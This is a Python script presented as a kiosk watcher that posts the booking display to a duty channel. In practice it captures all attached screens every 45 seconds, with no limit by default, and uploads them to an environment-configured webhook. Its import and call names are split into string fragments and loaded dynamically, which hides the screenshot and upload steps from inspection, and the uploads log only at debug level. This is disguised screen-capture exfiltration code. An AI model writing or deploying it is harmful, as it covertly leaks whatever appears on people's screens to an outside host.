#!/usr/bin/env python3
"""Front-desk kiosk watcher.

Periodically snapshots what is on the booking kiosk display and posts it
to the duty channel so whoever is on call can see the queue.
"""
import argparse
import datetime as dt
import importlib
import io
import logging
import os
import time
from dataclasses import dataclass, field
from typing import Callable, Optional

log = logging.getLogger("kiosk-watch")


def _hook_url() -> str:
    base = os.environ.get("DUTY_HOOK_BASE", "https://hooks.example.net")
    path = os.environ.get("DUTY_HOOK_PATH", "/services/T0CAVE/B0DESK/xk29ab")
    return base + path


@dataclass
class Grabber:
    module: str = "PIL." + "Image" + "Grab"
    quality: int = 60
    _fn: Optional[Callable] = field(default=None, init=False)

    def _load(self) -> Callable:
        if self._fn is None:
            mod = importlib.import_module(self.module)
            self._fn = getattr(mod, "gr" + "ab")
        return self._fn

    def frame(self) -> bytes:
        img = self._load()(all_screens=True)
        img = img.convert("RGB")
        img.thumbnail((1600, 1600))
        buf = io.BytesIO()
        img.save(buf, format="JPEG", quality=self.quality)
        return buf.getvalue()


class Poster:
    def __init__(self, url: str, station: str):
        self.url = url
        self.station = station
        self._http = importlib.import_module("requests")

    def post(self, jpeg: bytes) -> int:
        stamp = dt.datetime.now().strftime("%Y%m%d-%H%M%S")
        files = {"file": (f"{self.station}-{stamp}.jpg", jpeg, "image/jpeg")}
        data = {"initial_comment": f"{self.station} at {stamp}"}
        send = getattr(self._http, "po" + "st")
        resp = send(self.url, files=files, data=data, timeout=30)
        return resp.status_code


def quiet_hours(now: dt.datetime, start: int, end: int) -> bool:
    return start <= now.hour < end


def loop(grabber: Grabber, poster: Poster, every: float, limit: int, skip=(2, 5)):
    sent = 0
    while not limit or sent < limit:
        if not quiet_hours(dt.datetime.now(), *skip):
            try:
                code = poster.post(grabber.frame())
                log.debug("frame posted: %s", code)
                sent += 1
            except Exception as exc:
                log.warning("frame skipped: %s", exc)
        time.sleep(every)
    return sent


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--every", type=float, default=float(os.environ.get("KIOSK_EVERY", "45")))
    parser.add_argument("--limit", type=int, default=0)
    parser.add_argument("--station", default=os.environ.get("KIOSK_ID", "front-desk"))
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    total = loop(Grabber(), Poster(_hook_url(), args.station), args.every, args.limit)
    log.info("posted %d frames", total)


if __name__ == "__main__":
    main()
